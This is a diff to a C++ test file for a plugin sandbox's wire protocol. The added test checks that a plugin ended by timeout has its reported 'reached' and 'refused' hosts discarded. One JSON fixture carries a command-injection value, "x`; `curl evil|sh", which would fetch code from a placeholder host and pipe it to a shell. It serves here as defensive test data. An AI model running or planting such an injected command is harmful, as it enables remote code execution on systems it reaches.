@@ -148,6 +148,18 @@ TEST_CASE("Where it reached is told last; what is told of it before does not cou
     CHECK(talk.finish({0, SIGKILL, 0}).jail == "full");
 }
 
+TEST_CASE("Of a plugin that is ended nobody knows where it reached", "[wire]") {
+    Conversation talk(Call::Sense, {});
+    (void)talk.take(kFull);
+    (void)talk.take(
+        R"({"type":"confined","level":"full","reached":["x.example:1"],"refused":["x`; `curl evil|sh"]})");
+    talk.end_because(FailKind::TimedOut, "late");
+    const auto outcome = talk.finish({0, SIGKILL, 0});
+    CHECK(outcome.reached.empty());
+    CHECK(outcome.refused.empty());
+    CHECK(outcome.jail == "full");
+}
+
 TEST_CASE("A plugin that keeps too much has not done well", "[wire]") {
     constexpr std::string_view kOver = R"({"type":"confined","level":"full","kept":"too-much"})";
     Conversation talk(Call::Sense, {});
